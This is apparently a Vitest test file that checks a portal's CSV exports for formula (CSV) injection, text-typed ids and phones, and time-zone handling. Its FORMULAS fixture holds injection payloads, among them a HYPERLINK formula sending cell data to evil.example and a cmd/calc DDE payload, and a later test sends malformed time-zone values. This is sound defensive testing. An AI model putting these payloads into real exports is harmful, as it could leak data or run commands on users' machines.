import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDatabases } from '@portal/platform/testing/databases';
import { openAsSpreadsheet, openCsv, serialToLocal } from '../src/testing/csv.ts';
import { portalCalls } from '../src/testing/portal-calls.ts';
import { type TestPortal, openTestPortal } from '../src/testing/test-portal.ts';

const hour = 3600_000;
/** Nothing a spreadsheet would run, except the text form of a number (`="0812345678"`). */
const SAFE_CELL = /^(?![=+\-@\t\r＝＋－＠])|^="[\d\s.,:/+eE-]+"$/;
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

/**
 * Exports safe to open (OWASP CSV injection): found, a member named `=HYPERLINK(...)` and a scan
 * from device `=1+2` came out as live formulas. Every cell a spreadsheet would take for a formula
 * now starts with an apostrophe, so it shows as the text that was typed.
 */
describe.each(testDatabases())('formulas in the CSV exports on $name', (database) => {
  let portal: TestPortal;
  const { call, approvedMember, courseWithRounds } = portalCalls(() => portal);
  beforeAll(async () => {
    portal = await openTestPortal(database);
  });
  afterAll(() => portal.close());
  // As the console asks: after the caller's last write (read-your-writes).
  const download = async (url: string) => (await call('GET', url, portal.adminToken)).body;

  it('neutralises every formula prefix in the registration export', async () => {
    for (const name of FORMULAS.filter((formula) => !/^[\t\r]/.test(formula))) await approvedMember(name);
    const { header, rows } = openCsv(await download('/api/admin/registration/export.csv'));
    const names = rows.map((row) => row[header.indexOf('Name')]);
    for (const formula of FORMULAS.filter((f) => !/^[\t\r]/.test(f))) expect(names).toContain(`'${formula}`);
    for (const row of rows) {
      for (const cell of row) expect(cell, `a cell a spreadsheet would run: ${cell}`).toMatch(SAFE_CELL);
    }
  });

  it('neutralises formulas in the scan audit export, device ids and typed ids included', async () => {
    const teacher = portal.adminToken;
    const course = await courseWithRounds(teacher, [[-hour, hour]], 'Formulas');
    for (const formula of FORMULAS) {
      await call('PUT', `/api/admin/updateround/${course.rounds[0]}`, teacher, {
        userId: 'nobody-at-all',
        deviceId: formula.replace(/[\t\r]/g, ''),
      });
    }
    const { header, rows } = openCsv(await download(`/api/admin/audit/scans.csv?roundId=${course.rounds[0]}`));
    const devices = rows.map((row) => row[header.indexOf('Device')]);
    expect(devices).toContain(`'=1+1`);
    expect(devices).toContain(`'@SUM(1+1)`);
    for (const row of rows) {
      for (const cell of row) expect(cell, `a cell a spreadsheet would run: ${cell}`).toMatch(SAFE_CELL);
    }
  });

  const localParts = (iso: string, zone: string) =>
    new Intl.DateTimeFormat('sv-SE', {
      timeZone: zone,
      dateStyle: 'short',
      timeStyle: 'medium',
    }).format(new Date(iso));

  it('opens in a spreadsheet with ids and phones as text and dates as local date-times', async () => {
    const person = await approvedMember('Zero Leading', { personalPhone: '0812345678' });
    const sheet = openAsSpreadsheet(
      await download(`/api/admin/registration/export.csv?search=${person.id}&tz=Asia/Bangkok`),
    );
    expect(sheet).toHaveLength(1);
    const row = sheet[0]!;
    expect(row['Phone']).toEqual({ type: 's', value: '0812345678' });
    expect(row['Personal ID']).toEqual({ type: 's', value: person.person.personalId });
    expect(row['Name']).toEqual({ type: 's', value: 'Zero Leading' });
    // The registration moment, as a date and time in Bangkok (the screens show the browser's zone).
    const listed = (await call('GET', `/api/admin/registration?search=${person.id}`, portal.adminToken)).json();
    expect(row['Registration Date']!.type).toBe('n');
    expect(serialToLocal(row['Registration Date']!.value as number)).toBe(
      localParts(listed.members[0].createdAt, 'Asia/Bangkok'),
    );
    for (const cell of Object.values(row)) expect(cell.formula).toBeUndefined();
  });

  it('opens the scan audit with server and device times in the zone asked for', async () => {
    const teacher = portal.adminToken;
    const course = await courseWithRounds(teacher, [[-hour, hour]], 'Zones');
    await call('PUT', `/api/admin/updateround/${course.rounds[0]}`, teacher, {
      userId: 'nobody-here',
      deviceId: '0099',
      deviceTime: '2026-11-23T10:00:00.000Z',
    });
    const url = `/api/admin/audit/scans.csv?roundId=${course.rounds[0]}`;
    const [inNewYork] = openAsSpreadsheet(await download(`${url}&tz=America/New_York`));
    expect(serialToLocal(inNewYork!['Device time']!.value as number)).toBe('2026-11-23 05:00:00');
    const [inBangkok] = openAsSpreadsheet(await download(url)); // Thailand's time by default
    expect(serialToLocal(inBangkok!['Device time']!.value as number)).toBe('2026-11-23 17:00:00');
    // A device id of digits keeps its leading zeros.
    expect(inBangkok!['Device']).toEqual({ type: 's', value: '0099' });
    // A time zone that is not one, however it is written, is a 400 naming it, never a 5xx.
    // (As sent: a NUL, a lone surrogate in the UTF-8 form browsers cannot make, a megabyte.)
    for (const zone of ['Mars%2FOlympus', 'Asia%2FBangkok%00', '%ED%A0%80', 'x'.repeat(1024 * 1024)]) {
      const refused = await call('GET', `${url}&tz=${zone}`, teacher);
      expect(refused.statusCode, zone.slice(0, 20)).toBe(400);
      expect(Object.keys(refused.json().errors ?? { tz: '' })).toContain('tz');
    }
  });
});
